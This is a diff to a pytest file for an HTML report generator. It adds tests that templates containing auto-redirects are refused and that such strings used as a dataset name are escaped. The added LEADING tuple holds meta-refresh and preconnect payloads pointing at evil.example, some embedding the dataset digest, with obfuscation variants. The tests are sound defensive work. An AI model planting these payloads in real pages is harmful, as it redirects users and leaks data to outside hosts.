@@ -51,6 +51,13 @@ REFUSED = (
     "{% autoescape false %}{{ report.dataset.name }}{% endautoescape %}",
     "{% do report.run.packages.clear() %}",
 )
+LEADING = (
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/{{ report.dataset.digest }}">',
+    '<META content="0;url=//evil.example?>" HTTP-EQUIV=" re&#102;resh">',
+    "<svg><me{{ 'ta' }}\nhttp-equiv=refresh content='0;//evil.example'></svg>",
+    "<link rel=preconnect href='https://{{ report.dataset.digest[:12] }}.evil.example'>",
+    "<meta" + 5000 * " " + "http-equiv=refresh content='0;//evil.example'>",
+)
 ESCAPED = (
     "{{ report.dataset.name }}",
     "{{ report.dataset.name|forceescape }}",
@@ -92,6 +99,19 @@ def test_what_a_template_may_not_have_is_refused(tmp_path: Path, source: str) ->
         to_html(small(), folder)
     assert "integrity.html" in str(caught.value)
     assert SECRET not in str(caught.value)
+
+
+@pytest.mark.parametrize("source", LEADING)
+def test_a_page_that_would_lead_elsewhere_by_itself_is_not_made(
+    tmp_path: Path, source: str
+) -> None:
+    with pytest.raises(InputError, match="leads elsewhere unasked"):
+        to_html(small(), folder_with(tmp_path, source))
+
+
+@pytest.mark.parametrize("source", LEADING)
+def test_a_name_like_a_tag_that_leads_elsewhere_is_a_name(source: str) -> None:
+    assert "&lt;" in to_html(replace(small(), dataset=replace(small().dataset, name=source)))
 
 
 @pytest.mark.parametrize(
